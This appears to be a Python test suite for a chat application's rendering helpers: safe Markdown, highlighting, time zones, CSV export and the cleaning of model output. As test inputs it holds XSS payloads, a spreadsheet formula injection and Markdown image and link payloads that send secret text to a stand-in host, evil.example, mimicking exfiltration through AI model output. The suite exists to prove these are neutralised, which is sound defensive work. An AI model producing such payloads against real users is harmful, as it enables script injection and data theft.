"""Safe markdown, highlighting, author colours, timezones and CSV: the rules the pages rely on."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta, timezone

from collab_core.chat.presentation import (
    author_colour,
    avatar_svg,
    avatar_url,
    day_label,
    escape_markdown,
    highlight_markdown,
    initials,
    messages_csv,
    safe_markdown,
    snippet,
    viewer_timezone,
    when,
)
from collab_core.models import Message

KST = timezone(timedelta(hours=9))


def _msg(content: str, **kw: object) -> Message:
    base = dict(
        id=1,
        project_id=1,
        author_id=1,
        author="김민지",
        role="user",
        kind="chat",
        content=content,
        created_at=datetime(2025, 6, 2, 0, 30, tzinfo=UTC),
    )
    base.update(kw)
    return Message(**base)  # type: ignore[arg-type]


def test_html_becomes_literal_text_but_markdown_stays() -> None:
    out = safe_markdown('<script>alert(1)</script> <img src=x onerror="alert(2)"> **bold** $5 and $10')
    assert "<script" not in out.replace("\\<script", "")
    assert "\\<script>alert(1)\\</script>" in out
    assert '\\<img src=x onerror="alert(2)">' in out
    assert "**bold**" in out
    assert "\\$5 and \\$10" in out


def test_code_keeps_its_characters() -> None:
    text = "Use `<div>` here\n```html\n<b>$x</b>\n```\nafter <i>"
    out = safe_markdown(text)
    assert "`<div>`" in out
    assert "```html\n<b>$x</b>\n```" in out
    assert out.endswith("after \\<i>")


def test_unclosed_fence_cannot_swallow_following_content() -> None:
    assert safe_markdown("```\n<script>").endswith("\n```")


def test_escape_markdown_neutralises_every_marker() -> None:
    out = escape_markdown("**x** [a](javascript:1) :red[y] <b> # h $m$ \n next")
    for raw in ("**x**", "[a]", ":red[", "<b>", "$m$"):
        assert raw not in out
    assert "\n" not in out


def test_highlight_escapes_then_marks_terms() -> None:
    out = highlight_markdown("QA 일정: <b>배포</b> scheduled", ["일정", "배포", "schedul"])
    assert ":orange-background[**일정**]" in out
    assert ":orange-background[**배포**]" in out
    assert ":orange-background[**scheduled**]" in out  # a stem marks the whole word
    assert "\\<b\\>" in out and "<b>" not in out


def test_snippet_centres_on_the_first_match() -> None:
    text = "가" * 500 + " 배포 일정 " + "나" * 500
    cut = snippet(text, ["배포"], width=100)
    assert "배포" in cut and cut.startswith("…") and cut.endswith("…") and len(cut) <= 102


def test_colours_and_initials_are_stable() -> None:
    assert author_colour("Alice") == author_colour("alice ") == author_colour("Alice")
    assert initials("Alice Kim") == "AK" and initials("김민지") == "김" and initials("") == "?"
    assert "<svg" in avatar_svg("<script>") and "&lt;" in avatar_svg("<script>")
    assert avatar_url("Bob").startswith("data:image/svg+xml;base64,")


def test_times_follow_the_viewer() -> None:
    tz = viewer_timezone("Asia/Seoul")
    now = datetime(2025, 6, 2, 3, 0, tzinfo=UTC)
    assert when(datetime(2025, 6, 2, 0, 30, tzinfo=UTC), tz, "ko", now=now) == "09:30"
    assert when(datetime(2025, 5, 30, 0, 30, tzinfo=UTC), tz, "ko", now=now) == "5월 30일 09:30"
    assert when(datetime(2024, 5, 30, 0, 30, tzinfo=UTC), tz, "en", now=now) == "May 30, 2024, 09:30"
    assert viewer_timezone(None, -540).utcoffset(None) == timedelta(hours=9)  # JS offset sign
    assert viewer_timezone("Not/AZone") is UTC
    assert day_label(date(2025, 6, 2), "ko") == "2025년 6월 2일 (월)"
    assert day_label(date(2025, 6, 2), "en", today=date(2025, 6, 3)) == "Yesterday"


def test_csv_has_bom_korean_and_no_formulas() -> None:
    data = messages_csv([_msg('=HYPERLINK("http://x")'), _msg("배포 완료", id=2)], viewer_timezone("Asia/Seoul"))
    assert data.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0]["content"].startswith("'=")
    assert rows[1]["content"] == "배포 완료" and rows[1]["author"] == "김민지"
    assert rows[1]["time"] == "2025-06-02 09:30:00+0900"


def test_model_output_never_loads_an_image_or_carries_an_active_link():
    from collab_core.chat.presentation import safe_model_markdown

    evil = (
        "Done [#3]. ![x](http://evil.example/?d=the%20launch%20is%20secret) "
        "See [the doc](https://evil.example/a?b=1), https://evil.example/raw. and www.evil.example/w\n\n"
        "[ref][1]\n\n[1]: http://evil.example/ref\n\n<img src=http://evil.example/i.png>"
    )
    out = safe_model_markdown(evil)
    assert "![" not in out and "](" not in out
    assert "\\<img src=`http://evil.example/i.png`>" in out  # shown as typed, never a tag
    assert "[x] (`http://evil.example/?d=the%20launch%20is%20secret`)" in out  # the address stays readable
    assert "the doc (`https://evil.example/a?b=1`)" in out
    assert "`https://evil.example/raw`." in out and "`www.evil.example/w`" in out
    assert "\\[1\\]: `http://evil.example/ref`" in out  # no reference definition survives
    assert "**bold** stays" in safe_model_markdown("**bold** stays")
    assert safe_model_markdown("```\n![a](http://b)\n```") == "```\n![a](http://b)\n```"  # code shows as typed
